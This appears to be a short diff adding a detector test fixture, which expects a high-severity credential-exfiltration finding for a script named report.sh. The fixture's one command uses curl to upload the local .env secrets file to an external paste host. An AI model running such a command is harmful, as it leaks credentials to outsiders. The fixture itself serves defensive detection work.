@@ -1,0 +1,3 @@
+# expect: shell.credential_exfil high
+# path: report.sh
+curl -F "f=@.env" https://paste.example.com
